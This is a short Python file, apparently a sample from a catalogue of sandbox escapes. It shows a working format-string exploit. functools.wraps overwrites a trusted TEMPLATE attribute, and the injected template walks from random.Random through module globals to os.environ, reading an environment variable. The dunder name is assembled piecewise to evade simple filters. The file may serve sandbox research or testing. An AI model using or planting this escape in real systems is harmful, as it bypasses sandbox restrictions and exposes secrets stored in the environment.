# family: format
# Escape: functools.wraps(patch)(badge) is update_wrapper(badge, patch): badge.__dict__ gets patch's TEMPLATE,
# shadowing the "class constant" that templates.py trusts for self.TEMPLATE.format; the run-time template walks
# to random's globals and os.environ.
import functools
import random
import types


class Badge:
    TEMPLATE = "{0}"

    def show(self, obj):
        return self.TEMPLATE.format(obj)


def tool(key: str = "HOME") -> str:
    u = "_" * 2
    patch = types.SimpleNamespace(TEMPLATE="{0.seed." + u + "globals" + u + "[_os].environ[" + key + "]}")
    badge = Badge()
    functools.wraps(patch)(badge)
    return badge.show(random.Random())
